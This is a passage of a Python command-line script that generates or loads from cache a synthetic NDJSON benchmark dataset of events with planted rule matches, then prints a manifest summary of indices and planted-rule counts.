    parser.add_argument("--events", type=int, default=DEFAULT_EVENTS,
                        help="documents in all, planted ones included (default: 1,000,000)")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--duration", type=parse_duration, default=DEFAULT_DURATION,
                        help="time range the events cover, e.g. 24h, 90m, 2d (default: 24h)")
    parser.add_argument("--output", type=Path,
                        help="NDJSON file to write, .gz to compress (default: bench/data/...)")
    parser.add_argument("--noisy", action="store_true",
                        help="about one event in seven matches a planted rule")
    parser.add_argument("--force", action="store_true", help="regenerate even if cached")
    args = parser.parse_args(argv)
    path = args.output or default_path(args.events, args.seed, args.duration, noisy=args.noisy)
    started = time.perf_counter()
    found = None if args.force else cached(path, args.events, args.seed, args.duration,
                                           args.noisy)
    try:
        result = found or generate(path, args.events, args.seed, args.duration,
                                   noisy=args.noisy)
    except ValueError as error:
        parser.error(str(error))
    elapsed = time.perf_counter() - started
    manifest = result.manifest
    if found:
        print(f"cached: {path} (--force to regenerate)")
    else:
        print(f"wrote {path}: {manifest['events']:,} events, "
              f"{manifest['file_bytes'] / 1e6:,.1f} MB in {elapsed:.1f} s "
              f"({manifest['events'] / elapsed:,.0f} events/s)")
    for index, count in manifest["indices"].items():
        print(f"  {index}: {count:,}")
    for rule_id, entry in manifest["rules"].items():
        print(f"  planted {entry['name']} ({rule_id}): {entry['instances']} instances, "
              f"{len(entry['hits'])} hits, {len(entry['events'])} events")
    print(f"manifest: {result.manifest_path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
